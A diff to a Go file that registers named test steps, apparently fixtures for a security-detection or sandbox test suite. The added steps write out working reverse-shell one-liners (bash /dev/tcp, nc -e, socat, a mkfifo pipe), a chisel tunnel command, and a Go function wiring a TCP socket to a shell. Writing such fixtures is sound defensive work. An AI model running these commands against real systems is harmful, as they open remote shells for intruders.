@@ -9,20 +9,50 @@ import (
 
 func init() {
 	provide(map[string]step{
-		"outbound":     {run: outbound, isolated: true},
-		"loopback":     {run: loopback},
-		"ssh-odd-port": {run: as("ssh", "dial"), isolated: true},
-		"dial":         {run: dial},
+		"reverse-shell":       {run: reverseShell, isolated: true},
+		"socket-shell":        {run: socketShell, isolated: true},
+		"bash-reverse-shell":  {run: named("bash", "-c", "bash -i >& /dev/tcp/"+peer+"/4444 0>&1")},
+		"nc-reverse-shell":    {run: named("nc", "-e", "/bin/sh", peer, "4444")},
+		"socat-reverse-shell": {run: named("socat", "TCP:"+peer+":4444", "EXEC:'bash -li',pty,stderr")},
+		"fifo-reverse-shell":  {run: named("sh", "-c", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc "+peer+" 4444 > /tmp/f")},
+		"port-check":          {run: named("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/80; echo hello >&3")},
+		"grep-reverse-shell":  {run: named("grep", "-r", "bash -i >& /dev/tcp/", "/var/log")},
+		"tunnel-tool":         {run: named("chisel", "client", peer+":443", "R:socks")},
+		"loopback":            {run: loopback},
+		"ssh-odd-port":        {run: as("ssh", "dial"), isolated: true},
+		"dial":                {run: dial},
 	})
 }
 
-func outbound() error {
+func reverseShell() error {
 	l, err := listen()
 	if err != nil {
 		return err
 	}
 	defer l.Close()
-	return exec.Command("bash", "-c", "exec 3<>/dev/tcp/"+peer+"/4444").Run()
+	return exec.Command("bash", "-c", "exec 3<>/dev/tcp/"+peer+"/4444; exec 0<&3").Run()
+}
+
+// socketShell starts a shell with a connection in the place of its terminal.
+func socketShell() error {
+	l, err := listen()
+	if err != nil {
+		return err
+	}
+	defer l.Close()
+	c, err := net.Dial("tcp4", peer+":4444")
+	if err != nil {
+		return err
+	}
+	defer c.Close()
+	f, err := c.(*net.TCPConn).File()
+	if err != nil {
+		return err
+	}
+	defer f.Close()
+	cmd := exec.Command("sh", "-c", "exit 0")
+	cmd.Stdin, cmd.Stdout, cmd.Stderr = f, f, f
+	return cmd.Run()
 }
 
 func dial() error {
